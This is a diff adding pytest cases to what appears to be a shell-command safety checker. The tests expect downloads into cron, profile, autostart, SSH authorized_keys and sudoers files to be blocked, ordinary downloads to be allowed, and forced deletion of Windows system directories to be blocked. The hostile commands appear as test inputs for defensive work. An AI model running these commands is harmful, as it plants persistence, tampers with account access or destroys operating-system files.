@@ -58,3 +58,41 @@ def test_gawk_socket_that_only_fetches_asks() -> None:
     result = shell(f"gawk '{prog}'")
     assert result.decision.value == "confirm"
     assert "block.shell.reverse-shell" not in result.rules
+
+
+# -- what a downloader saves is a write of that file ---------------------------------------------------
+
+@pytest.mark.parametrize(("command", "rule"), [
+    ("curl -s http://192.0.2.77/job -o /etc/cron.hourly/job", "block.shell.malicious-persistence"),
+    ("wget -qO ~/.profile http://192.0.2.77/p", "block.shell.malicious-persistence"),
+    ("curl -fsSLo ~/.config/autostart/u.desktop https://192.0.2.77/u", "block.shell.malicious-persistence"),
+    ("curl --output ~/.ssh/authorized_keys https://192.0.2.77/k", "block.shell.credential-tamper"),
+    ("wget -O /etc/sudoers.d/extra http://192.0.2.77/s", "block.shell.credential-tamper"),
+])
+def test_downloading_into_startup_or_account_files_blocks(command: str, rule: str) -> None:
+    assert rule in shell(command).rules, command
+
+
+@pytest.mark.parametrize("command", [
+    "curl -o build/deps.json https://registry.example.org/deps",
+    "wget -O /tmp/dataset.tgz https://data.example.org/set.tgz",
+    "curl -fsSLo ~/Downloads/manual.pdf https://docs.example.org/manual.pdf",
+])
+def test_downloading_into_ordinary_files_is_allowed(command: str) -> None:
+    assert shell(command).decision.value == "allow", command
+
+
+# -- Windows paths keep their separators when unquoted ---------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "del /f /s /q C:\\Windows\\System32\\*",
+    "Remove-Item -Recurse -Force C:\\Windows\\SysWOW64",
+    "rmdir /s /q C:\\Windows\\System32\\drivers",
+])
+def test_unquoted_windows_system_paths_are_recognised(command: str) -> None:
+    assert shell(command).decision.value == "block", command
+
+
+def test_unquoted_windows_paths_in_everyday_commands_stay_allowed() -> None:
+    assert shell("type C:\\Users\\dev\\project\\README.md").decision.value == "allow"
+    assert shell("dir C:\\Users\\dev\\project").decision.value == "allow"
